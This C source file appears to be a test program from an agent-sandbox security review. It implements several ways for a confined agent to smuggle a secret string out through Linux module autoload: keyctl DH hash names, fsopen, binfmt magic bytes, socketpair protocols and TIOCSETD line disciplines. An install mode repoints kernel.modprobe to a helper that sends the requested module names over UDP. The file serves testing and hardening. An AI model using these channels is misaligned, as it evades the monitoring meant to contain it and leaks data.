/* modprobe-name: module autoload with a name the agent chose (hostile review
 * h-attack13). The kernel's module autoload
 * starts /sbin/modprobe (kernel.modprobe) as a usermode helper, full root
 * in the initial namespaces, outside the filter and the tree, with a module
 * name built from a string the agent chose, and no capability is checked:
 *
 *   modprobe-name dh SECRET     keyctl(KEYCTL_DH_COMPUTE) with KDF
 *                               parameters whose hash name is SECRET: the
 *                               hash is allocated before any key is read
 *                               (keys/dh.c, kdf_alloc -> crypto_alloc_shash
 *                               -> crypto_larval_lookup:
 *                               request_module("crypto-%s") and
 *                               "crypto-%s-all"), up to 127 bytes
 *   modprobe-name fsopen SECRET unshare(CLONE_NEWUSER | CLONE_NEWNS), then
 *                               fsopen(SECRET): get_fs_type ->
 *                               request_module("fs-%s") before any LSM hook
 *   modprobe-name binfmt SECRET for each 2 bytes of SECRET, a memfd whose
 *                               bytes 0-1 are not printable and 2-3 are
 *                               those two, executed (execveat, empty
 *                               path): no handler knows it, so
 *                               search_binary_handler runs
 *                               request_module("binfmt-%04x") with them
 *                               (hostile review h-attack40)
 *   modprobe-name socketpair SECRET  socketpair(AF_INET, SOCK_DGRAM, B) for
 *                               each byte B of SECRET: inet_create asks for
 *                               "net-pf-2-proto-B-type-2" and
 *                               "net-pf-2-proto-B" before the pair is
 *                               refused (hostile review h-attack57)
 *   modprobe-name ldisc SECRET  a pty of its own (a devpts instance in a
 *                               user and mount namespace of its own on
 *                               /tmp: the run's /dev has no ptmx), then
 *                               TIOCSETD with 1 + B % 29 for each byte B:
 *                               "tty-ldisc-N" where dev.tty.ldisc_autoload
 *                               is 1 (h-attack57)
 *   modprobe-name addkey SECRET add_key("user") with SECRET as payload: every
 *                               add_key with a payload is refused (an
 *                               "asymmetric" certificate's OIDs name the
 *                               hash: "crypto-HASH", review h-attack61)
 *   modprobe-name install DEST  root service (guest cell): copies itself to
 *                               /sbin/ha13-modprobe-helper, points
 *                               kernel.modprobe at it, writes DEST, holds a
 *                               UDP socket on 127.0.0.1:9998 and sleeps
 *
 * Helper mode (argv[0] ends in "modprobe-helper"): the stand-in for
 * modprobe (kmod itself only searches modules.alias and runs the
 * configuration's install commands): it sends its argv as one UDP datagram
 * to DEST:9999. The agent makes no socket call. */
#include "agentlib.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <termios.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define DEST_FILE "/etc/ha13-modprobe.dest"
#define HELPER "/sbin/ha13-modprobe-helper"

static int helper(int argc, char **argv)
{
	char msg[2048];

	snprintf(msg, sizeof(msg), "modprobe helper uid %d argv:", getuid());
	for (int i = 1; i < argc; i++)
		snprintf(msg + strlen(msg), sizeof(msg) - strlen(msg), " '%s'", argv[i]);
	agent_helper_send(DEST_FILE, msg);
	return 1;
}

static int install(const char *dest)
{
	int err = agent_install_self(HELPER, DEST_FILE, dest);
	FILE *f;

	if (err) {
		fprintf(stderr, "install: %s\n", strerror(-err));
		return 1;
	}
	f = fopen("/proc/sys/kernel/modprobe", "w");
	if (!f && errno == ENOENT) {
		/* A kernel built without modules (the tinyconfig custom ones)
		 * has no kernel.modprobe and never runs a helper: nothing to
		 * point, and the cell is judged the same (the call is trapped
		 * before the kernel looks). */
		printf("no kernel.modprobe: a kernel without module support\n");
		agent_hold_ready();
	}
	if (!f || fprintf(f, "%s\n", HELPER) < 0 || fclose(f) != 0) {
		perror("kernel.modprobe");
		return 1;
	}
	printf("installed %s as kernel.modprobe, helper destination %s:9999\n", HELPER, dest);
	agent_hold_ready();
	return 0;
}

/* ldisc mode: the pty's peer, from the run's /dev or a devpts of its own;
 * then one TIOCSETD a byte of the secret. Returns the last TIOCSETD's
 * result, or -1 when no pty could be had (no trapped call made). */
static long ldisc(const char *secret)
{
	int m = open("/dev/ptmx", O_RDWR | O_NOCTTY), s;
	long rc = -1;

	if (m < 0) {
		rc = unshare(CLONE_NEWUSER | CLONE_NEWNS);
		printf("agent: unshare(user, mount) = %ld (%s)\n", rc,
		       rc < 0 ? strerror(errno) : "ok");
		rc = mount("devpts", "/tmp", "devpts", 0, "newinstance,ptmxmode=0666,mode=0666");
		printf("agent: mount devpts on /tmp = %ld (%s)\n", rc,
		       rc < 0 ? strerror(errno) : "ok");
		m = open("/tmp/ptmx", O_RDWR | O_NOCTTY);
	}
	if (m < 0 || unlockpt(m) != 0 || (s = ioctl(m, TIOCGPTPEER, O_RDWR | O_NOCTTY)) < 0) {
		printf("agent: no pty (%s)\n", strerror(errno));
		return -1;
	}
	for (const char *c = secret; *c; c++) {
		int n = 1 + (unsigned char)*c % 29;

		rc = ioctl(s, TIOCSETD, &n);
		printf("agent: TIOCSETD %d = %ld (%s)\n", n, rc, rc < 0 ? strerror(errno) : "ok");
		if (rc == 0)
			ioctl(s, TIOCSETD, &(int){0});
	}
	return rc;
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "dh";
	const char *secret = argc > 2 ? argv[2] : "agent-secret-0042";
	size_t l = strlen(argv[0]);
	long rc;

	if (l >= 15 && strcmp(argv[0] + l - 15, "modprobe-helper") == 0)
		return helper(argc, argv);
	if (strcmp(mode, "install") == 0)
		return install(secret);
	if (strcmp(mode, "dh") == 0) {
		struct keyctl_dh_params p = {.private = 1, .prime = 1, .base = 1};
		struct keyctl_kdf_params k;
		char out[64];

		memset(&k, 0, sizeof(k));
		k.hashname = (char *)secret;
		rc = syscall(SYS_keyctl, KEYCTL_DH_COMPUTE, &p, out, sizeof(out), &k);
	} else if (strcmp(mode, "fsopen") == 0) {
		rc = unshare(CLONE_NEWUSER | CLONE_NEWNS);
		printf("agent: unshare = %ld (%s)\n", rc, rc < 0 ? strerror(errno) : "ok");
		rc = syscall(SYS_fsopen, secret, 0);
	} else if (strcmp(mode, "binfmt") == 0) {
		rc = 0;
		for (size_t i = 0; secret[i] && secret[i + 1]; i += 2) {
			unsigned char head[64] = {0x01, 0x02};
			char *const args[] = {(char *)"x", NULL};
			int fd = (int)syscall(SYS_memfd_create, "binfmt", 0);

			head[2] = (unsigned char)secret[i];
			head[3] = (unsigned char)secret[i + 1];
			if (fd < 0 || write(fd, head, sizeof(head)) != (ssize_t)sizeof(head)) {
				rc = -1;
				break;
			}
			rc = syscall(SYS_execveat, fd, "", args, args + 1, AT_EMPTY_PATH);
			printf("agent: exec of a memfd holding '%c%c' = %ld (%s)\n", secret[i],
			       secret[i + 1], rc, rc < 0 ? strerror(errno) : "ok");
			close(fd);
		}
	} else if (strcmp(mode, "socketpair") == 0) {
		int sv[2];

		rc = 0;
		for (const char *c = secret; *c; c++) {
			long r = socketpair(AF_INET, SOCK_DGRAM, (unsigned char)*c, sv);

			printf("agent: socketpair(AF_INET, SOCK_DGRAM, %u) = %ld (%s)\n",
			       (unsigned char)*c, r, r < 0 ? strerror(errno) : "ok");
			if (r == 0) {
				close(sv[0]);
				close(sv[1]);
			}
		}
	} else if (strcmp(mode, "ldisc") == 0) {
		rc = ldisc(secret);
	} else if (strcmp(mode, "addkey") == 0) {
		/* A key of type "user" with SECRET as its payload in the
		 * process keyring: harmless itself, but the type is a string
		 * the agent may rewrite to "asymmetric" after any read, whose
		 * certificate names the hash modprobe is asked for. */
		rc = syscall(SYS_add_key, "user", "modprobe-name", secret, strlen(secret),
			     KEY_SPEC_PROCESS_KEYRING);
	} else {
		fprintf(stderr,
			"usage: modprobe-name dh|fsopen|binfmt|socketpair|ldisc|addkey|install "
			"SECRET\n");
		return 2;
	}
	printf("agent uid %d: %s(%s) = %ld (%s)\n", getuid(), mode, secret, rc,
	       rc < 0 ? strerror(errno) : "ok");
	return 0;
}
